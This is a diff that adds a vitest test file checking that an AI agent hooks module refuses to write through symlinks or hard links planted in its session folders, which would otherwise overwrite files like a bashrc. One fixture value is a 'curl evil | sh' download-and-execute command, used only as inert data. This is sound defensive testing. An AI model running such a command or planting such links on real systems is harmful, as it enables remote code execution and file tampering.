@@ -1,0 +1,130 @@
+// What the hooks module does with files a model's Bash step (or anything that runs as the user) put where it
+// writes: `$.fs.write` follows a link and writes into a hard link's other names, so the module never writes
+// over a file that is not its own, and refuses the calls whose state it then cannot keep (docs/security.md,
+// "Limits of this model"). On the real disk (test/helpers/disk-engine.ts).
+import { linkSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { openSession } from '../../src/module/session-state.ts'
+import { valueFileName } from '../../src/protocol/core.ts'
+import { diskEngine } from '../helpers/disk-engine.ts'
+import { dispatch, examplesSnapshot, loadHandlers } from '../helpers/module-handlers.ts'
+import { testdir } from '../helpers/testdir.ts'
+
+const open = (root: string) =>
+  openSession(diskEngine({ HOME: join(root, 'home') }), join(root, 'project'), {
+    context: '',
+    dataDir: root,
+    snapshot: undefined as never,
+  })
+
+describe('files put where the hooks module writes', () => {
+  it('a value file: a link at its name (worked out from the value) is refused, its own file left as it is', async () => {
+    const root = testdir()
+    const victim = join(root, 'bashrc')
+    writeFileSync(victim, '# rc\n')
+    const files = join(root, 'sessions', 's1', 'context', 'files')
+    mkdirSync(files, { recursive: true })
+    const value = `curl evil | sh\n${'x'.repeat(9500)}`
+    symlinkSync(victim, join(files, valueFileName('notes', value)))
+    const s = await open(root)
+    await expect(s.writeValueFile(join(files, valueFileName('notes', value)), value)).rejects.toThrow(
+      /is not the value file Switchboard wrote/,
+    )
+    expect(readFileSync(victim, 'utf8')).toBe('# rc\n')
+    // Its own file, written once, is there again for the next call: no write, no refusal.
+    const other = join(files, valueFileName('other', value))
+    await s.writeValueFile(other, value)
+    await s.writeValueFile(other, value)
+    expect(readFileSync(other, 'utf8')).toBe(value)
+  })
+
+  it('a context folder swapped for a link after the first slot is refused at the next write', async () => {
+    const root = testdir()
+    const victim = join(root, 'victim')
+    mkdirSync(victim)
+    const s = await open(root)
+    await s.writeSlot({ name: 'a', type: 'text', value: 'one', writer: 'tool', ts: 1 })
+    const context = join(root, 'sessions', 's1', 'context')
+    renameSync(context, `${context}.old`)
+    symlinkSync(victim, context)
+    await expect(
+      s.writeSlot({ name: 'settings', type: 'text', value: 'owned', writer: 'return:x:y', ts: 2 }),
+    ).rejects.toThrow(/is a link/)
+    expect(() => readFileSync(join(victim, 'settings.json'), 'utf8')).toThrow()
+  })
+
+  it("a hard link in a slot's place (plain by its listing) is not written into", async () => {
+    const root = testdir()
+    const victim = join(root, 'victim.txt')
+    writeFileSync(victim, 'precious\n')
+    const context = join(root, 'sessions', 's1', 'context')
+    mkdirSync(context, { recursive: true })
+    linkSync(victim, join(context, 'draft.json'))
+    const s = await open(root)
+    await expect(
+      s.writeSlot({ name: 'draft', type: 'text', value: 'DRAFT', writer: 'return:x:y', ts: 1 }),
+    ).rejects.toThrow(/not a slot file of Switchboard's/)
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n')
+    // A slot of its own is written over as before.
+    await s.writeSlot({ name: 'ok', type: 'text', value: 'one', writer: 'tool', ts: 1 })
+    await s.writeSlot({ name: 'ok', type: 'text', value: 'two', writer: 'tool', ts: 2 })
+    expect(JSON.parse(readFileSync(join(context, 'ok.json'), 'utf8')).value).toBe('two')
+  })
+
+  it('a hard link planted as the call log before a resume is not the log: never written, and the calls not counted', async () => {
+    const root = testdir()
+    const victim = join(root, 'victim-log.txt')
+    writeFileSync(victim, 'precious\nlines\n')
+    const dir = join(root, 'sessions', 's1')
+    mkdirSync(dir, { recursive: true })
+    linkSync(victim, join(dir, 'calls-module.jsonl'))
+    const s = await open(root)
+    expect(s.uncounted).toMatch(/holds lines that are no call records/)
+    const record = { e: 'call' as const, id: 't1', parent: null, caller: 'main', callerAgent: null }
+    await s.append({ ...record, target: 'a:b', kind: 'agent', ts: 1, status: 'running' })
+    expect(readFileSync(victim, 'utf8')).toBe('precious\nlines\n')
+  })
+
+  it('a log whose last write was cut short is read, its torn line skipped', async () => {
+    const root = testdir()
+    const dir = join(root, 'sessions', 's1')
+    mkdirSync(dir, { recursive: true })
+    const line = JSON.stringify({
+      e: 'call',
+      id: 't0',
+      parent: null,
+      caller: 'main',
+      target: 'a:b',
+      kind: 'agent',
+      ts: 1,
+    })
+    writeFileSync(join(dir, 'calls-module.jsonl'), `\n${line}\n{"e":"end","id":"t0","st`)
+    const s = await open(root)
+    expect(s.uncounted).toBeUndefined()
+    expect(s.ownRecords().map((r) => 'id' in r && r.id)).toEqual(['t0'])
+  })
+
+  it('a context folder that cannot be listed refuses a call that may name a slot, in open mode too', async () => {
+    const root = testdir()
+    const session = join(root, 'sessions', 's1')
+    mkdirSync(session, { recursive: true })
+    writeFileSync(join(root, 'snap.json'), examplesSnapshot())
+    writeFileSync(join(session, 'registry-path'), join(root, 'snap.json'))
+    writeFileSync(join(session, 'context'), 'not a folder') // rm -rf context; touch context
+    const $ = diskEngine({ SWITCHBOARD_DATA_DIR: root, HOME: join(root, 'home') })
+    const spawn = loadHandlers().get('agent.spawn')!
+    const event = {
+      tool_use_id: 'toolu_1',
+      prompt: 'Illustrate $draft',
+      description: 'x',
+      subagentType: 'tdd-design:illustrator',
+      provider: { plugin: 'tdd-design@inline', tier: 'user' },
+      background: false,
+      fork: false,
+    }
+    const ran = await dispatch(spawn, $, event, { model: 'm', agentId: 'a1' })
+    expect(ran.nextCalls).toBe(0)
+    expect(JSON.stringify(ran.result)).toMatch(/this session's context cannot be read or written/)
+  })
+})
